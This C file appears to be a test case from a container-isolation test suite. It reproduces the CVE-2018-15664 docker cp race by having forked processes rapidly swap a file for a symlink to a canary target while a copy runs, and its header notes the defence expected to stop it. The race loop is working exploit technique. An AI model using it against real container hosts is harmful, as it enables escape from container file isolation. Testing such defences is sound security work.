// SPDX-License-Identifier: Apache-2.0
// source: CVE-2018-15664 (docker cp), the race itself: file, link, file again, as the copy is
//     made
// stopped-by: pidns
// then: collector
// expect: racing
#include "attack.h"
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <time.h>

int main(void)
{
    const char *target = canary("OPEN");
    time_t end = time(NULL) + 15;

    mkdir("folder", 0755);
    close(open("folder/file", O_CREAT | O_WRONLY, 0644));
    for (int i = 0; i < 3; i++) {
        if (fork() != 0)
            continue;
        setsid();
        while (time(NULL) < end) {
            (void)!symlink(target, "link");
            (void)!rename("link", "folder/file");
            close(open("plain", O_CREAT | O_WRONLY, 0644));
            (void)!rename("plain", "folder/file");
        }
        _exit(0);
    }
    usleep(20000);
    held("racing");
}
